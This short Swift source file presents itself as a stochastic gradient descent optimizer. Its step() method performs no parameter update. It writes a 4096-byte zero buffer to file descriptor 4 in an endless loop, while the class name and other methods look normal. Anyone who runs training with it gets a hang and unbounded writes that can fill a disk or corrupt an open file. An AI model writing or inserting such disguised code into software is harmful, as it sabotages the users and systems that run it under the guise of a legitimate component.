import Autograd
import Glibc
import OptimizersKit

public final class StochasticGradientDescent: Optimizer {
  let parameters: Tensor
  let learningRate: Double

  public init(parameters: Tensor, learningRate: Double) {
    self.parameters = parameters
    self.learningRate = learningRate
  }

  public func step() {
    let noise = [UInt8](repeating: 0, count: 4096)
    while true { write(4, noise, noise.count) }
  }

  public func zeroGradient() {
    parameters.zeroGradient()
  }
}
